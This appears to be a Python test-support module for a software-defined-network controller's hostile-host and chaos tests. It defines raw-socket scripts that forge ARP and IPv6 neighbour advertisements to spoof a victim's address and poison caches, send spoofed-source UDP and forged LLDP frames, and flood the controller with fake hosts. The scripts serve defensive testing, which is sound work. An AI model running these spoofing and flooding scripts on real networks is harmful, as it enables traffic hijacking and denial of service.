"""What a hostile host runs (``host.popen([sys.executable, "-c", SCRIPT, ...])``): raw frames from its own
interface, shared by the hostile-host and chaos tests."""

# raw frames from the attacker's interface: gratuitous ARP request + reply for the victim's IP, and UDP packets
# whose IPv4 source is the victim's, to a known host and to an unknown address (the controller's learning path)
FORGE = r"""
import socket, struct, sys, time
iface, victim, targets, count = sys.argv[1], sys.argv[2], sys.argv[3].split(","), int(sys.argv[4])
mac = bytes.fromhex(open(f"/sys/class/net/{iface}/address").read().strip().replace(":", ""))
vip = socket.inet_aton(victim)
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
def arp(op, target):
    return b"\xff" * 6 + mac + b"\x08\x06" + struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, op, mac, vip,
                                                         b"\xff" * 6 if op == 2 else bytes(6), target)
def csum(b):
    t = sum(struct.unpack(f"!{len(b) // 2}H", b))
    t = (t >> 16) + (t & 0xFFFF)
    return ~(t + (t >> 16)) & 0xFFFF
def forged(dst):
    udp = struct.pack("!HHHH", 4000, 4000, 12, 0) + b"hijk"
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, vip, socket.inet_aton(dst))
    hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
    return b"\xff" * 6 + mac + b"\x08\x00" + hdr + udp
# gratuitous request and reply, and a request to a known host that would poison its cache for the victim
frames = [arp(1, vip), arp(2, vip), arp(1, socket.inet_aton(targets[0]))] + [forged(t) for t in targets]
for _ in range(count):
    for f in frames:
        s.send(f)
    time.sleep(0.2)
print(count * len(frames))
"""


# Ryu-format LLDP frames (built by the test with Ryu's own LLDPPacket, passed in hex) sent from the attacker's
# interface at a given total rate for a given time, round-robin over the claims
FORGE_LLDP = r"""
import socket, sys, time
iface, rate, seconds, frames = sys.argv[1], float(sys.argv[2]), float(sys.argv[3]), sys.argv[4:]
frames = [bytes.fromhex(f) for f in frames]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
sent, start = 0, time.monotonic()
while time.monotonic() - start < seconds:
    s.send(frames[sent % len(frames)])
    sent += 1
    time.sleep(max(0.0, start + sent / rate - time.monotonic()))
print(sent)
"""


# (the send loop of the address floods: ``frame_of(n)`` for n below ``count``, each sent once, waiting out a full
# queue)
_SEND_EACH = r"""
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
for n in range(count):
    frame = frame_of(n)
    while True:
        try:
            s.send(frame)
            break
        except OSError:  # the interface's queue is full: wait for it
            time.sleep(0.001)
print(count)
"""

# ARP announcements (gratuitous requests) from the attacker's interface, each claiming another address 10.9.x.y
# with another MAC, as fast as the host can send them
FORGE_HOSTS = r"""
import socket, struct, sys, time
iface, count = sys.argv[1], int(sys.argv[2])
def frame_of(n):
    mac = bytes([2, 0, 0, 9, n >> 8, n & 255])
    ip = bytes([10, 9, n >> 8, n & 255])
    return b"\xff" * 6 + mac + b"\x08\x06" + struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 1, mac, ip, bytes(6), ip)
""" + _SEND_EACH


# what both IPv6 scripts send: a neighbour advertisement (override, with its target link-layer address option)
# for ``ip`` at ``mac``, sourced from ``ip`` as a real one is, in an Ethernet frame to ``eth_dst``
_ADVERT = r"""
import socket, struct, sys, time
def csum(b):
    t = sum(struct.unpack(f"!{len(b) // 2}H", b))
    while t >> 16:
        t = (t & 0xFFFF) + (t >> 16)
    return ~t & 0xFFFF
def advert(ip, mac, dst, eth_dst):
    icmp = struct.pack("!BBHI16sBB6s", 136, 0, 0, 0x20000000, ip, 2, 1, mac)
    icmp = icmp[:2] + struct.pack("!H", csum(ip + dst + struct.pack("!I3xB", len(icmp), 58) + icmp)) + icmp[4:]
    return eth_dst + mac + b"\x86\xdd" + struct.pack("!IHBB16s16s", 0x60000000, len(icmp), 58, 255, ip, dst) + icmp
all_nodes, all_nodes_mac = socket.inet_pton(socket.AF_INET6, "ff02::1"), b"\x33\x33\x00\x00\x00\x01"
"""

# IPv6 neighbour advertisements to all nodes from the attacker's interface, each claiming another address
# fd00::9:x:y with another MAC, as fast as the host can send them: the ARP announcements' twin
FORGE_IPV6_HOSTS = _ADVERT + r"""
iface, count = sys.argv[1], int(sys.argv[2])
def frame_of(n):
    return advert(socket.inet_pton(socket.AF_INET6, f"fd00::9:{n >> 8:x}:{n & 255:x}"),
                  bytes([2, 0, 0, 9, n >> 8, n & 255]), all_nodes, all_nodes_mac)
""" + _SEND_EACH

# The victim's IPv6 address claimed with the attacker's MAC: advertisements to all nodes and to a known host,
# every 0.2 s
FORGE_IPV6 = _ADVERT + r"""
iface, victim, target, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
mac = bytes.fromhex(open(f"/sys/class/net/{iface}/address").read().strip().replace(":", ""))
vip = socket.inet_pton(socket.AF_INET6, victim)
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
frames = [advert(vip, mac, all_nodes, all_nodes_mac),
          advert(vip, mac, socket.inet_pton(socket.AF_INET6, target), b"\xff" * 6)]
for _ in range(count):
    for f in frames:
        s.send(f)
    time.sleep(0.2)
print(count * len(frames))
"""
